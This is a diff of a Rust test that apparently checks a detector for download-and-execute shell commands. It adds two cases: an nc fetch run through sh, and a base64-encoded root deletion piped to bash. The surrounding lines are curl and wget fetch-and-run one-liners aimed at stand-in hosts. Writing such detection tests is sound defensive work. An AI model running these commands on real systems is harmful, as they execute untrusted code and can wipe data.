@@ -417,6 +417,8 @@ fn download_and_execute() {
     check("wget -O run https://e.example/r && chmod 755 run", c);
     check("curl -O https://e.example/tool && ./tool", c);
     check("curl https://e.example/x > x.sh && . ./x.sh", c);
+    check("nc h 1 > /tmp/x; sh /tmp/x", c);
+    check("echo cm0gLXJmIC8= | base64 -d > x.sh; bash x.sh", c);
     check("curl -s https://x > /tmp/a; sh < /tmp/a", c);
     check("curl -s https://x | tee /tmp/a >/dev/null; sh /tmp/a", c);
     check("wget -qO- https://x | gunzip > run.sh && bash run.sh", c);
